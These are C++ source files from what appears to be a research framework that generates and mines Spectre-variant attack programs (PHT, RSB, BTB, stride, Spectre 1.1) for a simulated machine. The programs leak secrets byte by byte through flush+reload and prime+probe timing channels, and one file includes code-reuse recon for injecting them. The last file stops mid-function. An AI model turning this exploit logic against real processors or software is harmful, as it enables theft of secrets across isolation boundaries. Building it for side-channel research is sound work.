  const std::vector<int> free = free_registers(*plan, cand.attacker_reg);
  if (free.size() < (pht ? 4u : 2u)) return {};
  // PHT: condition, compare result, zero; both: one temporary.
  const int rc = pht ? free[0] : -1;
  const int rcc = pht ? free[1] : free[0];  // RSB: trampoline register
  const int rz = pht ? free[2] : -1;
  const int t1 = pht ? free[3] : free[1];

  const Anchor& xa = anchors[static_cast<std::size_t>(plan->xmit_anchor)];

  std::string s;
  s += "; synthesized replay program (mine/synth.cpp) -- trigger ";
  s += trigger_kind_name(cand.trigger) + " @0x";
  char hexbuf[32];
  std::snprintf(hexbuf, sizeof hexbuf, "%llx",
                static_cast<unsigned long long>(cand.trigger_addr));
  s += hexbuf;
  s += ", window ";
  s += std::to_string(cand.window_len) + " instrs\n";
  s += ".entry _start\n";
  s += "_start:\n";
  s += "  movi r1, mine_state\n";
  s += "  movi r2, 0\n";
  s += "  store [r1], r2\n";
  s += "mine_round:\n";
  if (pht) {
    // Mistrain: the branch architecturally falls through the body while the
    // attacker register points at a benign in-bounds buffer.
    for (int k = 0; k < std::max(1, options.train_iterations); ++k) {
      emit_aim(&s, *plan, anchors, cand.attacker_reg, t1, /*secret=*/false);
      s += "  movi " + reg(rz) + ", 0\n";
      s += "  movi " + reg(rc) + ", 0\n";
      s += "  call mine_gadget\n";
    }
  }
  // Flush every probe entry (clears train-round warming too), plus the
  // condition slot so the trigger branch resolves late.
  s += "  movi r0, mine_probe_tbl\n";
  s += "  movi r1, 256\n";
  s += "mine_flush_loop:\n";
  s += "  load r2, [r0]\n";
  s += "  clflush [r2]\n";
  s += "  addi r0, r0, 8\n";
  s += "  addi r1, r1, -1\n";
  s += "  bnez r1, mine_flush_loop\n";
  if (pht) {
    s += "  movi r0, mine_cond_slot\n";
    s += "  clflush [r0]\n";
  }
  s += "  mfence\n";
  // Trigger: aim the attacker register at the next secret byte and fire.
  emit_aim(&s, *plan, anchors, cand.attacker_reg, t1, /*secret=*/true);
  if (pht) {
    s += "  movi " + reg(rz) + ", 0\n";
    s += "  movi " + reg(rc) + ", mine_cond_slot\n";
    s += "  load " + reg(rc) + ", [" + reg(rc) + "]\n";
  }
  s += "  call mine_gadget\n";
  // Probe: argmin access latency over the 256 entries. The mfence before the
  // first timed load doubles as the terminator for the transient
  // continuation that falls off the gadget's ret.
  s += "  movi r0, 0\n";
  s += "  movi r5, -1\n";
  s += "  movi r6, 0\n";
  s += "mine_probe_loop:\n";
  s += "  movi r3, mine_probe_tbl\n";
  s += "  shli r4, r0, 3\n";
  s += "  add r3, r3, r4\n";
  s += "  load r3, [r3]\n";
  s += "  mfence\n";
  s += "  rdcycle r1\n";
  s += "  loadb r4, [r3]\n";
  s += "  mov r7, r4\n";
  s += "  mfence\n";
  s += "  rdcycle r2\n";
  s += "  sub r1, r2, r1\n";
  s += "  cmpltu r4, r1, r5\n";
  s += "  beqz r4, mine_probe_next\n";
  s += "  mov r5, r1\n";
  s += "  mov r6, r0\n";
  s += "mine_probe_next:\n";
  s += "  addi r0, r0, 1\n";
  s += "  movi r2, 256\n";
  s += "  cmpltu r2, r0, r2\n";
  s += "  bnez r2, mine_probe_loop\n";
  // Record the recovered byte, advance, loop until the secret is out.
  s += "  movi r2, mine_state\n";
  s += "  load r3, [r2]\n";
  s += "  movi r1, mine_out\n";
  s += "  add r1, r1, r3\n";
  s += "  storeb [r1], r6\n";
  s += "  addi r3, r3, 1\n";
  s += "  store [r2], r3\n";
  s += "  movi r4, mine_secret_len\n";
  s += "  cmpltu r4, r3, r4\n";
  s += "  bnez r4, mine_round\n";
  s += "  movi r1, mine_out\n";
  s += "  movi r2, mine_secret_len\n";
  s += "  call print\n";
  s += "  movi r1, 0\n";
  s += "  call exit_\n";
  // The gadget, mined body verbatim (movi address immediates re-anchored).
  s += "mine_gadget:\n";
  if (pht) {
    s += "  cmpltu " + reg(rcc) + ", " + reg(rz) + ", " + reg(rc) + "\n";
    s += "  bnez " + reg(rcc) + ", mine_gskip\n";
  } else {
    s += "  call mine_tramp\n";
  }
  for (std::size_t i = 0; i < plan->instrs.size(); ++i) {
    s += body_line(*plan, anchors, i) + "\n";
  }
  s += "mine_gskip:\n";
  s += "  ret\n";
  if (!pht) {
    // Rewrites its own return slot: the RSB still predicts the body.
    s += "mine_tramp:\n";
    s += "  movi " + reg(rcc) + ", mine_gskip\n";
    s += "  store [r15], " + reg(rcc) + "\n";
    s += "  clflush [r15]\n";
    s += "  mfence\n";
    s += "  ret\n";
  }
  s += ".data\n";
  s += ".align 64\n";
  s += "mine_state:\n  .word 0\n";
  if (pht) {
    // Own cache line: the trigger phase reads mine_state after the flush,
    // and a shared line would silently re-warm the flushed condition slot
    // (collapsing the speculation budget to ~1 instruction).
    s += ".align 64\n";
    s += "mine_cond_slot:\n  .word 1\n";
    s += ".align 64\n";
    s += "mine_benign:\n  .space 64, 0\n";
  }
  s += ".align 64\n";
  s += "mine_out:\n  .space " + std::to_string(kSecretCap) + ", 0\n";
  s += ".align 64\n";
  s += "mine_probe_tbl:\n";
  for (int v = 0; v < 256; ++v) {
    s += "  .word " + anchor_ref(xa, plan->xmit_add + plan->xmit_val * v) +
         "\n";
  }
  s += ".align 64\n";
  s += "mine_scratch:\n  .space " + std::to_string(kScratchSize) + ", 0\n";
  for (std::size_t i = 0; i < used.size(); ++i) {
    if (!used[i]) continue;
    s += ".align 64\n";
    s += anchors[i].label + ":\n";
    emit_bytes(&s, orig.segments[i].bytes);
  }
  return s;
}

std::string wrap_attack_standalone(const std::string& attack_source,
                                   const std::string& secret) {
  std::string s = attack_source;
  const std::size_t len = std::min<std::size_t>(secret.size(), kSecretCap);
  s += "\n.equ mine_secret_len, " + std::to_string(len) + "\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "mine_secret_base:\n";
  s += "  .ascii \"" + detail::escape_ascii(secret.substr(0, len)) + "\"\n";
  return s;
}

}  // namespace crs::mine
