// Corpus-scale mining driver: per-binary pipeline (assemble -> classify ->
// validate -> class-upgrade via the classic ROP pool -> synthesize +
// self-check), memoized process-wide, fanned out on the thread pool.
//
// Determinism contract (tested in tests/test_mine.cpp): generated sources
// are pure functions of derive_seed(seed, index); binaries are mined
// share-nothing and folded by index; the memo key includes the binary NAME
// as well as its source and every option field, so memoization on/off and
// any CRS_THREADS value produce byte-identical reports.
#include <cstdio>
#include <exception>
#include <memory>
#include <utility>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "fuzz/generator.hpp"
#include "mine/emul.hpp"
#include "mine/mine.hpp"
#include "rop/gadget.hpp"
#include "sim/kernel.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"
#include "support/rng.hpp"

namespace crs::mine {
namespace {

MemoCache<BinaryReport>& report_cache() {
  static MemoCache<BinaryReport> cache;
  return cache;
}

std::uint64_t report_key(const std::string& name, const std::string& source,
                         const MineOptions& opt) {
  HashBuilder h;
  h.str("mine-v1").str(name).str(source);
  h.u64(opt.attacker_regs.size());
  for (const int r : opt.attacker_regs) h.i64(r);
  h.i64(opt.max_window)
      .u64(opt.link_base)
      .b(opt.honor_fence_hints)
      .b(opt.validate)
      .i64(opt.train_iterations)
      .u64(opt.max_candidates);
  return h.digest();
}

/// Runs the synthesized replay program against a planted secret; only a
/// byte-exact recovery earns scenario eligibility.
bool self_check(const std::string& attack_source, const MineOptions& opt) {
  const std::string secret(detail::kValidationSecret);
  const std::string full = wrap_attack_standalone(attack_source, secret) +
                           "\n" + casm::runtime_library();
  sim::Program program;
  try {
    program = casm::assemble(
        full, {.name = "mine-replay", .link_base = opt.link_base});
  } catch (const std::exception&) {
    return false;
  }
  sim::Machine machine{sim::MachineConfig{}};
  sim::Kernel kernel(machine, sim::KernelConfig{});
  kernel.register_binary("/bin/mined_replay", program);
  kernel.start("/bin/mined_replay");
  kernel.run(8'000'000);
  return kernel.output_string() == secret;
}

BinaryReport build_report(const std::string& name, const std::string& source,
                          const MineOptions& opt) {
  BinaryReport rep;
  rep.name = name;

  sim::Program program;
  try {
    program = casm::assemble(source + "\n" + casm::runtime_library(),
                             {.name = name, .link_base = opt.link_base});
  } catch (const std::exception& e) {
    rep.error = e.what();
    return rep;
  }

  const std::vector<WindowCandidate> candidates =
      classify_program(program, opt);
  rep.candidates = candidates.size();

  // Classic code-reuse recon: a post-call window is CR-Spectre-drivable
  // (kCrSpectre) when the pool can pop the attacker register and reach a
  // syscall — the paper's injection prerequisites.
  const rop::GadgetScanner scanner;
  const std::vector<rop::Gadget> pool = scanner.scan(program);
  const std::uint32_t pops = rop::pop_register_mask(pool);
  const bool has_syscall = rop::find_syscall(pool) != nullptr;

  for (const WindowCandidate& cand : candidates) {
    MinedGadget g;
    g.window = cand;
    if (opt.validate) {
      const detail::ValidateOutcome vo =
          detail::validate_window(source, cand, opt);
      if (vo.validation == Validation::kNone) {
        ++rep.rejected;
        continue;
      }
      g.validation = vo.validation;
      g.leaked_byte = vo.leaked_byte;
    }
    if (cand.trigger == TriggerKind::kCondBranch) {
      g.cls = GadgetClass::kPht;
    } else {
      const bool drivable = has_syscall && cand.attacker_reg >= 0 &&
                            ((pops >> cand.attacker_reg) & 1u) != 0;
      g.cls = drivable ? GadgetClass::kCrSpectre : GadgetClass::kRsb;
    }
    std::string attack = synthesize_attack_source(source, cand, opt);
    if (!attack.empty() && self_check(attack, opt)) {
      g.scenario_eligible = true;
      g.attack_source = std::move(attack);
    }
    rep.gadgets.push_back(std::move(g));
  }
  return rep;
}

std::string hex(std::uint64_t v) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "0x%llx", static_cast<unsigned long long>(v));
  return buf;
}

std::string json_escape(const std::string& s) {
  std::string out;
  for (const char c : s) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
        break;
    }
  }
  return out;
}

}  // namespace

BinaryReport mine_source(const std::string& name, const std::string& source,
                         const MineOptions& options) {
  const auto report = report_cache().get_or_build(
      report_key(name, source, options),
      [&] { return build_report(name, source, options); });
  return *report;
}

CorpusReport mine_corpus(const CorpusOptions& options) {
  // Generated sources are derived up front (cheap, and trivially
  // deterministic); mining — the expensive part — fans out below.
  std::vector<std::pair<std::string, std::string>> items;
  items.reserve(options.generated + options.sources.size());
  for (std::size_t i = 0; i < options.generated; ++i) {
    Rng rng(derive_seed(options.seed, i));
    fuzz::GeneratorOptions gopt;
    gopt.gadget_bias = options.gadget_bias;
    const fuzz::FuzzProgram fp = fuzz::generate_program(rng, gopt);
    items.emplace_back("gen-" + std::to_string(options.seed) + "-" +
                           std::to_string(i),
                       fp.source());
  }
  for (const auto& src : options.sources) items.push_back(src);

  ThreadPool pool;
  std::vector<BinaryReport> reports =
      parallel_map<BinaryReport>(pool, items.size(), [&](std::size_t i) {
        return mine_source(items[i].first, items[i].second, options.mine);
      });

  CorpusReport out;
  out.binaries = std::move(reports);
  for (const BinaryReport& rep : out.binaries) {
    out.candidates += rep.candidates;
    out.rejected += rep.rejected;
    out.gadgets += rep.gadgets.size();
    for (const MinedGadget& g : rep.gadgets) {
      if (g.validation == Validation::kLeak) ++out.leaks;
      if (g.validation == Validation::kPerturb) ++out.perturbs;
      if (g.scenario_eligible) ++out.scenarios;
    }
  }
  return out;
}

std::string corpus_csv(const CorpusReport& report) {
  std::string out =
      "binary,class,trigger,trigger_addr,window,window_addr,window_len,"
      "attacker_reg,load_addr,xmit_addr,load_width,validation,leaked_byte,"
      "scenario\n";
  for (const BinaryReport& rep : report.binaries) {
    for (const MinedGadget& g : rep.gadgets) {
      const WindowCandidate& w = g.window;
      out += rep.name + ',' + gadget_class_name(g.cls) + ',' +
             trigger_kind_name(w.trigger) + ',' + hex(w.trigger_addr) + ',' +
             (w.trigger == TriggerKind::kPostCall
                  ? "post"
                  : (w.window_taken ? "taken" : "fall")) +
             ',' + hex(w.window_addr) + ',' + std::to_string(w.window_len) +
             ',' + std::to_string(w.attacker_reg) + ',' + hex(w.load_addr) +
             ',' + hex(w.xmit_addr) + ',' + std::to_string(w.load_width) +
             ',' + validation_name(g.validation) + ',' +
             std::to_string(g.leaked_byte) + ',' +
             (g.scenario_eligible ? "yes" : "no") + '\n';
    }
  }
  return out;
}

std::string corpus_json(const CorpusReport& report) {
  std::string out = "{\n  \"binaries\": [\n";
  for (std::size_t i = 0; i < report.binaries.size(); ++i) {
    const BinaryReport& rep = report.binaries[i];
    out += "    {\"name\": \"" + json_escape(rep.name) + "\", ";
    out += "\"candidates\": " + std::to_string(rep.candidates) + ", ";
    out += "\"rejected\": " + std::to_string(rep.rejected) + ", ";
    if (!rep.error.empty()) {
      out += "\"error\": \"" + json_escape(rep.error) + "\", ";
    }
    out += "\"gadgets\": [";
    for (std::size_t j = 0; j < rep.gadgets.size(); ++j) {
      const MinedGadget& g = rep.gadgets[j];
      const WindowCandidate& w = g.window;
      if (j > 0) out += ", ";
      out += "{\"class\": \"" + gadget_class_name(g.cls) + "\", ";
      out += "\"trigger\": \"" + trigger_kind_name(w.trigger) + "\", ";
      out += "\"trigger_addr\": \"" + hex(w.trigger_addr) + "\", ";
      out += "\"window_addr\": \"" + hex(w.window_addr) + "\", ";
      out += "\"window_len\": " + std::to_string(w.window_len) + ", ";
      out += "\"attacker_reg\": " + std::to_string(w.attacker_reg) + ", ";
      out += "\"validation\": \"" + validation_name(g.validation) + "\", ";
      out += "\"leaked_byte\": " + std::to_string(g.leaked_byte) + ", ";
      out += "\"scenario\": ";
      out += g.scenario_eligible ? "true" : "false";
      out += "}";
    }
    out += "]}";
    out += i + 1 < report.binaries.size() ? ",\n" : "\n";
  }
  out += "  ],\n  \"totals\": {";
  out += "\"candidates\": " + std::to_string(report.candidates) + ", ";
  out += "\"rejected\": " + std::to_string(report.rejected) + ", ";
  out += "\"gadgets\": " + std::to_string(report.gadgets) + ", ";
  out += "\"leaks\": " + std::to_string(report.leaks) + ", ";
  out += "\"perturbs\": " + std::to_string(report.perturbs) + ", ";
  out += "\"scenarios\": " + std::to_string(report.scenarios) + "}\n}\n";
  return out;
}

core::ScenarioConfig mined_scenario(const MinedGadget& g,
                                    const std::string& secret, bool injected) {
  core::ScenarioConfig cfg;
  cfg.secret = secret;
  cfg.rop_injected = injected;
  cfg.variant = g.cls == GadgetClass::kPht ? attack::SpectreVariant::kPht
                                           : attack::SpectreVariant::kRsb;
  cfg.mined_attack_source =
      injected ? g.attack_source : wrap_attack_standalone(g.attack_source, secret);
  return cfg;
}

MineMemoStats mine_memo_stats() {
  return {report_cache().hits(), report_cache().misses()};
}

}  // namespace crs::mine
