// Spectre 1.1 (speculative store overflow) attack binary generator.
//
// The hardening subsystem's architectural defenses — canary, redzones,
// guarded heap — all check memory *after it was written*. Spectre 1.1
// (Kiriansky & Waldspurger, "Speculative Buffer Overflows") never commits a
// write: a bounds-checked store
//
//     if (i < len) buf[i] = v;
//
// is mistrained in-bounds, `len` is flushed so the check resolves late, and
// the attacker supplies i = (return slot − buf) and v = &disclosure_gadget.
// On the wrong path the store sits in the speculative store buffer, the
// victim's `ret` forwards it, and control transiently lands on a gadget
// that loads secret[i] and touches probe[byte * 64]. The squash rolls back
// every byte — the canary is never torn, no redzone is dirtied — but the
// probe line stays hot and flush+reload names the byte.
//
// This is the paper's "defense-aware" escalation applied to host
// hardening: when canaries block the architectural ROP write, the same
// chain runs transiently where no integrity check ever fires.
#pragma once

#include <cstdint>
#include <string>

#include "sim/program.hpp"

namespace crs::attack {

struct Spectre11Config {
  /// Absolute address of the secret (post-ASLR; the leak stage or the
  /// experimenter's harness supplies it). Used when `embed_secret` is empty.
  std::uint64_t target_secret_address = 0;
  /// Non-empty = standalone PoC: the binary carries its own secret at the
  /// `embedded_secret` symbol and leaks that instead.
  std::string embed_secret;
  std::uint32_t secret_length = 16;

  int train_iterations = 8;  ///< in-bounds stores per byte before the OOB one
  std::uint64_t link_base = 0x300000;
  std::string name = "cr_spectre11";
};

/// Stable display name of the variant (matrix rows, reports).
inline const char* kSpectre11Name = "spectre-1.1";

/// Assembly source of the attack binary (inspectable / disassemblable).
std::string generate_spectre11_source(const Spectre11Config& config);

/// Assembled attack binary ready for Kernel::register_binary.
sim::Program build_spectre11_binary(const Spectre11Config& config);

}  // namespace crs::attack
