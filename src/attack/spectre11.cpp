#include "attack/spectre11.hpp"

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "support/error.hpp"

namespace crs::attack {

namespace {

std::string num(std::uint64_t v) { return std::to_string(v); }

/// The Spectre 1.1 victim: a bounds-checked store. On the wrong path the
/// store targets the saved return address in the speculative store buffer;
/// the `ret` right behind it forwards the overwritten value and control
/// transiently lands wherever r2 pointed. Nothing ever commits.
std::string victim11_source() {
  std::string s;
  s += "victim11:\n";  // r1 = index, r2 = value: if (i < len) buf[i] = v
  s += "    movi r4, buf_len\n";
  s += "    load r4, [r4]\n";          // flushed before the OOB call
  s += "    cmpltu r5, r1, r4\n";
  s += "    beqz r5, victim11_done\n"; // taken = out of bounds
  s += "    movi r6, buf\n";
  s += "    add r6, r6, r1\n";
  s += "    store [r6], r2\n";         // the speculative overflow
  s += "victim11_done:\n";
  s += "    ret\n";                    // forwards the smashed return slot
  return s;
}

/// Transient-only disclosure gadget: never architecturally reachable (no
/// call or jump targets it); only the forwarded store delivers control.
std::string sso_gadget_source() {
  std::string s;
  s += "sso_gadget:\n";                // r3 = &secret[i], live in wrong path
  s += "    loadb r7, [r3]\n";
  s += "    muli r7, r7, 64\n";
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";         // fills the leaking probe line
  s += "    ret\n";
  return s;
}

}  // namespace

std::string generate_spectre11_source(const Spectre11Config& c) {
  CRS_ENSURE(c.target_secret_address != 0 || !c.embed_secret.empty(),
             "target secret address not set");
  CRS_ENSURE(c.embed_secret.empty() ||
                 c.embed_secret.size() >= c.secret_length,
             "embedded secret shorter than secret_length");
  CRS_ENSURE(c.secret_length > 0, "secret length must be positive");
  CRS_ENSURE(c.train_iterations > 0, "train_iterations must be positive");

  const std::string target = c.embed_secret.empty()
                                 ? num(c.target_secret_address)
                                 : std::string("embedded_secret");
  std::string s;
  s += "; CR-Spectre attack binary (" + std::string(kSpectre11Name) +
       ", speculative store overflow)\n";
  s += ".org " + num(c.link_base) + "\n";
  s += ".entry _start\n";
  s += "_start:\n";
  s += "    movi r14, 0\n";  // byte index
  s += "byte_loop:\n";
  // 1. Mistrain the store's bounds check toward "in bounds".
  s += "    movi r13, " + num(c.train_iterations) + "\n";
  s += "train_loop:\n";
  s += "    movi r1, 0\n";
  s += "    movi r2, 0\n";
  s += "    call victim11\n";
  s += "    addi r13, r13, -1\n";
  s += "    bnez r13, train_loop\n";
  // 2. Flush the probe array and the bound.
  s += "    movi r5, probe\n";
  s += "    movi r6, 256\n";
  s += "flush_probe:\n";
  s += "    clflush [r5]\n";
  s += "    addi r5, r5, 64\n";
  s += "    addi r6, r6, -1\n";
  s += "    bnez r6, flush_probe\n";
  s += "    movi r4, buf_len\n";
  s += "    clflush [r4]\n";
  s += "    mfence\n";
  // 3. One transient store overflow of victim11's return slot. After the
  // call, the saved return address sits at (current sp − 8); the index
  // aims the "buffer" store exactly there, and the value is the gadget.
  s += "    movi r3, " + target + "\n";
  s += "    add r3, r3, r14\n";        // r3 = &secret[i] for the gadget
  s += "    movi r2, sso_gadget\n";    // v = disclosure gadget address
  s += "    mov r4, sp\n";
  s += "    addi r4, r4, -8\n";        // = victim11's return slot
  s += "    movi r6, buf\n";
  s += "    sub r1, r4, r6\n";         // i = return slot − buf (way OOB)
  s += "    call victim11\n";
  // 4. Time every probe line; min latency names the byte.
  s += "    movi r5, 0\n";
  s += "    movi r10, 100000\n";
  s += "    movi r11, 0\n";
  s += "probe_loop:\n";
  s += "    muli r6, r5, 64\n";
  s += "    movi r7, probe\n";
  s += "    add r6, r7, r6\n";
  s += "    mfence\n";
  s += "    rdcycle r2\n";
  s += "    loadb r7, [r6]\n";
  s += "    mov r12, r7\n";  // data dependency for the fence
  s += "    mfence\n";
  s += "    rdcycle r3\n";
  s += "    sub r2, r3, r2\n";
  s += "    cmplt r7, r2, r10\n";
  s += "    beqz r7, probe_next\n";
  s += "    mov r10, r2\n";
  s += "    mov r11, r5\n";
  s += "probe_next:\n";
  s += "    addi r5, r5, 1\n";
  s += "    movi r7, 256\n";
  s += "    cmpltu r7, r5, r7\n";
  s += "    bnez r7, probe_loop\n";
  // 5. Record the guess and loop.
  s += "    movi r6, recovered\n";
  s += "    add r6, r6, r14\n";
  s += "    storeb [r6], r11\n";
  s += "    addi r14, r14, 1\n";
  s += "    movi r7, " + num(c.secret_length) + "\n";
  s += "    cmpltu r7, r14, r7\n";
  s += "    bnez r7, byte_loop\n";
  s += "    movi r1, recovered\n";
  s += "    movi r2, " + num(c.secret_length) + "\n";
  s += "    call print\n";
  s += "    movi r1, 0\n";
  s += "    call exit_\n";

  s += victim11_source();
  s += sso_gadget_source();

  s += ".data\n";
  s += "buf_len: .word 8\n";
  s += "buf: .space 64\n";
  s += ".align 64\n";
  s += "probe: .space 16384\n";
  s += ".align 64\n";
  s += "recovered: .space " + num(c.secret_length + 8) + "\n";
  if (!c.embed_secret.empty()) {
    s += ".align 64\n";
    s += "embedded_secret: .ascii \"";
    for (char ch : c.embed_secret) {
      switch (ch) {
        case '\n': s += "\\n"; break;
        case '\t': s += "\\t"; break;
        case '"': s += "\\\""; break;
        case '\\': s += "\\\\"; break;
        default: s += ch;
      }
    }
    s += "\"\n.byte 0\n";
  }
  return s;
}

sim::Program build_spectre11_binary(const Spectre11Config& c) {
  casm::AssembleOptions opt;
  opt.name = c.name;
  opt.link_base = c.link_base;
  return casm::assemble(generate_spectre11_source(c) + casm::runtime_library(),
                        opt);
}

}  // namespace crs::attack
