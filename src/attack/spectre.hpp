// The CR-Spectre attack binary generator.
//
// Produces a complete, self-contained attack program (in the simulated ISA)
// that recovers a secret byte-by-byte over the flush+reload covert channel:
//
//   per byte:
//     1. mistrain / arm the predictor structure of the chosen variant,
//     2. flush the probe array (and the bound, for the PHT variant),
//     3. trigger one transient out-of-bounds access of secret[i],
//     4. time a load of each probe line and pick the leaked one,
//     5. optionally call the Algorithm-2 perturbation routine,
//   then SYS_WRITE the recovered bytes and SYS_EXIT (which, when the binary
//   was ROP-injected, resumes the host).
//
// Variants (paper §III-B1 cites Spectre [3] and the RSB/stride variants
// [20], [21]; accuracies are averaged over variants):
//   kPht    — classic v1 bounds-check bypass via the PHT.
//   kRsb    — return-address overwrite; the RSB predicts the stale return
//             site, which holds the leak gadget (SpectreRSB-style [20]).
//   kStride — v1 with a non-standard probe stride and double-indexed
//             access pattern (speculative-buffer-overflow flavour [21]);
//             same leak, different cache/branch footprint.
//   kBtb    — v2-style branch-target injection (same address space): an
//             indirect dispatch is trained toward the leak gadget, the
//             function pointer is then repointed and its cache line
//             flushed, so the dispatch transiently executes the stale
//             BTB target with attacker-chosen arguments.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "perturb/perturb.hpp"
#include "sim/program.hpp"

namespace crs::attack {

enum class SpectreVariant { kPht, kRsb, kStride, kBtb };

/// All implemented variants, in a stable order.
std::vector<SpectreVariant> all_variants();

std::string variant_name(SpectreVariant variant);

enum class RecoveryMode {
  kMinLatency,  ///< guess = argmin over probe-line load latencies (robust)
  kThreshold,   ///< guess = first line faster than `threshold` (classic)
};

/// The cache covert channel the receiver uses.
enum class CovertChannel {
  /// flush+reload: clflush the probe array, time per-line reloads.
  kFlushReload,
  /// prime+probe: completely clflush/mfence-light — per secret value the
  /// attacker owns an 8-way eviction set aliasing the probe line's L2 set
  /// (walked as a pointer chain for dependent timing); the victim's
  /// transient fill evicts one way, and the slowest re-walk names the
  /// byte. The bounds check is delayed by eviction instead of clflush.
  /// This is the attacker's answer to §IV's "disable clflush" proposal.
  /// Only implemented for the kPht variant.
  kPrimeProbe,
};

struct AttackConfig {
  SpectreVariant variant = SpectreVariant::kPht;

  /// Absolute address of the secret (the adversary knows it: paper §II-A).
  /// Used when `embed_secret` is empty.
  std::uint64_t target_secret_address = 0;
  /// Non-empty = standalone ("traditional") Spectre: the binary carries its
  /// own secret at the `embedded_secret` symbol and leaks that instead.
  std::string embed_secret;
  std::uint32_t secret_length = 16;

  int train_iterations = 8;     ///< PHT mistraining calls per byte
  CovertChannel channel = CovertChannel::kFlushReload;
  RecoveryMode recovery = RecoveryMode::kMinLatency;
  std::uint32_t threshold = 60; ///< cycles, for kThreshold
  /// Transient-access + probe rounds per byte, majority-voted. Real PoCs
  /// retry because a single transient window can fail to fire; >1 also
  /// makes recovery robust when the perturbation pollutes the probe array.
  int rounds_per_byte = 1;

  /// Probe-line stride in bytes (64 = classic; the stride variant uses
  /// larger values). Must be a multiple of the cache line size.
  std::uint32_t probe_stride = 64;

  /// Perturbation: empty = none. Generated via perturb::.
  bool perturb = false;
  perturb::PerturbParams perturb_params;
  int perturb_every = 1;  ///< call perturb() after every N recovered bytes
  /// Also call perturb() every N probe lines inside the reload scan
  /// (power of two; 0 = off). This interleaves Algorithm 2 with the
  /// attack's hottest loop so *every* profiling window is contaminated,
  /// not just the inter-byte gaps. Smaller = stronger dilution of the
  /// attack's own cache bursts.
  int perturb_probe_interval = 16;

  std::uint64_t link_base = 0x300000;
  std::string name = "cr_spectre";
};

/// Assembly source of the attack binary (inspectable / disassemblable).
std::string generate_attack_source(const AttackConfig& config);

/// Assembled attack binary ready for Kernel::register_binary.
sim::Program build_attack_binary(const AttackConfig& config);

}  // namespace crs::attack
