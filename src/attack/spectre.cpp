#include "attack/spectre.hpp"

#include "casm/assembler.hpp"
#include "sim/cache.hpp"
#include "casm/runtime.hpp"
#include "support/error.hpp"

namespace crs::attack {

namespace {

std::string num(std::uint64_t v) { return std::to_string(v); }

/// The Spectre-PHT victim: bounds-check bypass, y = array1[x],
/// touch probe[y * stride]. The stride variant adds an intermediate
/// table lookup (a second dependent speculative load).
std::string victim_source(const AttackConfig& c) {
  std::string s;
  s += "victim:\n";
  s += "    movi r4, array1_size\n";
  s += "    load r4, [r4]\n";            // flushed before the OOB call
  s += "    cmpltu r5, r1, r4\n";
  s += "    beqz r5, victim_done\n";     // taken = out of bounds
  s += "    movi r6, array1\n";
  s += "    add r6, r6, r1\n";
  s += "    loadb r7, [r6]\n";           // the transient secret read
  if (c.variant == SpectreVariant::kStride) {
    s += "    muli r7, r7, 8\n";
    s += "    movi r8, index_table\n";
    s += "    add r8, r8, r7\n";
    s += "    load r7, [r8]\n";          // index_table[y] = y * stride
  } else {
    s += "    muli r7, r7, " + num(c.probe_stride) + "\n";
  }
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";           // fills the leaking probe line
  s += "victim_done:\n";
  s += "    ret\n";
  return s;
}

/// The Spectre-RSB leak pair: the trampoline overwrites its own saved
/// return address and flushes the stack line; its `ret` then mispredicts
/// via the RSB into the leak gadget at the original call site.
std::string rsb_source(const AttackConfig& c) {
  std::string s;
  s += "rsb_leak:\n";                    // r1 = &secret[i]
  s += "    call rsb_trampoline\n";
  // Transient resume point — never architecturally executed.
  s += "    loadb r7, [r1]\n";
  s += "    muli r7, r7, " + num(c.probe_stride) + "\n";
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";
  s += "rsb_done:\n";
  s += "    ret\n";
  s += "rsb_trampoline:\n";
  s += "    mov r4, sp\n";
  s += "    movi r5, rsb_done\n";
  s += "    store [r4], r5\n";           // overwrite saved return address
  s += "    clflush [r4]\n";             // delay the return-address load
  s += "    mfence\n";
  s += "    ret\n";
  return s;
}

/// The Spectre-BTB (v2-style) machinery: an indirect dispatch whose BTB
/// entry the attacker trains toward the leak gadget. After repointing the
/// (flushed) function pointer at a benign target, the dispatch transiently
/// executes the stale prediction with the attacker's argument.
std::string btb_source(const AttackConfig& c) {
  std::string s;
  s += "btb_dispatch:\n";
  s += "    jmpr r5\n";               // the victim indirect branch
  s += "btb_benign:\n";
  s += "    ret\n";
  s += "btb_leak_gadget:\n";          // transient target; r1 = byte address
  s += "    loadb r7, [r1]\n";
  s += "    muli r7, r7, " + num(c.probe_stride) + "\n";
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";
  s += "    ret\n";
  return s;
}

}  // namespace

std::string variant_name(SpectreVariant variant) {
  switch (variant) {
    case SpectreVariant::kPht:
      return "spectre-pht";
    case SpectreVariant::kRsb:
      return "spectre-rsb";
    case SpectreVariant::kStride:
      return "spectre-stride";
    case SpectreVariant::kBtb:
      return "spectre-btb";
  }
  return "unknown";
}

std::vector<SpectreVariant> all_variants() {
  return {SpectreVariant::kPht, SpectreVariant::kRsb, SpectreVariant::kStride,
          SpectreVariant::kBtb};
}

std::string generate_attack_source(const AttackConfig& c) {
  CRS_ENSURE(c.target_secret_address != 0 || !c.embed_secret.empty(),
             "target secret address not set");
  CRS_ENSURE(c.embed_secret.empty() ||
                 c.embed_secret.size() >= c.secret_length,
             "embedded secret shorter than secret_length");
  CRS_ENSURE(c.secret_length > 0, "secret length must be positive");
  CRS_ENSURE(c.probe_stride >= 64 && c.probe_stride % 64 == 0,
             "probe stride must be a multiple of the cache line size");
  CRS_ENSURE(c.perturb_every > 0, "perturb_every must be positive");
  CRS_ENSURE(c.rounds_per_byte > 0, "rounds_per_byte must be positive");

  const bool prime_probe = c.channel == CovertChannel::kPrimeProbe;
  if (prime_probe) {
